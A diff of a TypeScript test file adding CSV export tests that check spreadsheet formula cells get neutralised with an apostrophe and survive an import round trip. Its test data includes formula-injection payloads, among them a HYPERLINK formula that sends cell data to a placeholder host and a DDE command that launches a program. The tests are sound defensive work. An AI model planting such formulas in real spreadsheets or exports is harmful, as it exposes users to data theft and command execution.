@@ -4,7 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createCategory, createProduct } from '../../../test/fixtures/catalog';
 import { type Customer, signedInCustomer, staffMember } from '../../../test/fixtures/orders';
 import { createTestApp, type TestApp } from '../../../test/test-app';
-import { csvField, parseCsv } from '../catalog/import/csv';
+import { csvCell, parseCsv } from '../../lib/csv';
 import { IMPORT_HEADER, readImportFile } from '../catalog/import/import-products';
 import { applyBatch, batchesOf } from './bulk-import';
 import { applyImport } from './imports.service';
@@ -26,7 +26,7 @@ afterAll(() => harness?.close());
 type Row = Partial<Record<string, string | number | boolean>>;
 const columns = IMPORT_HEADER.split(',');
 const csv = (rows: Row[]) =>
-  `${IMPORT_HEADER}\n${rows.map((row) => columns.map((column) => csvField(row[column] as string)).join(',')).join('\n')}\n`;
+  `${IMPORT_HEADER}\n${rows.map((row) => columns.map((column) => csvCell(row[column] as string)).join(',')).join('\n')}\n`;
 
 const gin = (n: number, overrides: Row = {}): Row => ({
   product_slug: `bulk-gin-${n}`,
@@ -260,6 +260,65 @@ describe('export', () => {
     const done = await waitUntilApplied(preview.id);
     expect(done.result).toEqual({ created: 0, updated: 0, unchanged: rows });
     expect(await catalogState()).toEqual(before);
+  });
+
+  // Text a spreadsheet would run (issue 33): each start of a formula, as names, descriptions and
+  // tasting notes, including the tab and carriage return the import once trimmed away.
+  const FORMULAS = [
+    '=HYPERLINK("http://x/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    '+1+1',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    "'=already quoted",
+  ];
+  const formulas = `${EXPORT}?category=formulas`;
+  const formulaProducts = async () => {
+    const category = await createCategory(harness.database.pool, { name: 'Formulas', slug: 'formulas' });
+    for (const [index, text] of FORMULAS.entries()) {
+      await createProduct(harness.database.pool, {
+        categoryId: category.id,
+        slug: `formula-${index}`,
+        name: text,
+        description: text,
+        tastingNotes: text,
+      });
+    }
+  };
+
+  it('writes no cell a spreadsheet would run: a formula’s start gets an apostrophe', async () => {
+    await formulaProducts();
+    const [header, ...records] = parseCsv((await staff.client.get(formulas)).body);
+    const column = (name: string) => header!.fields.indexOf(name);
+    for (const name of ['name', 'description', 'tasting_notes']) {
+      expect(records.map((record) => record.fields[column(name)])).toEqual(
+        FORMULAS.map((text) => `'${text}`),
+      );
+    }
+    for (const record of records) {
+      for (const cell of record.fields) {
+        if (!/^[+-]?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+  });
+
+  it('round-trips those cells: importing the export changes nothing, and exports the same file again', async () => {
+    // The products of the test before (tests of a file run in order).
+    const exported = (await staff.client.get(formulas)).body;
+    const before = await catalogState();
+    const preview = catalogImportSchema.parse((await upload(exported, staff.client, 'formulas.csv')).json());
+    expect(preview.errors).toEqual([]);
+    expect(preview.counts).toEqual({ new: 0, updated: 0, unchanged: FORMULAS.length, errors: 0 });
+    await staff.client.post(`${IMPORTS}${preview.id}/apply/`);
+    expect((await waitUntilApplied(preview.id)).result).toMatchObject({ updated: 0 });
+    expect(await catalogState()).toEqual(before);
+    const names = await harness.database.pool.query<{ name: string }>(
+      `SELECT name FROM products WHERE slug LIKE 'formula-%' ORDER BY slug`,
+    );
+    expect(names.rows.map((row) => row.name)).toEqual(FORMULAS);
+    expect((await staff.client.get(formulas)).body).toBe(exported);
   });
 
   it('filters by category and by search', async () => {
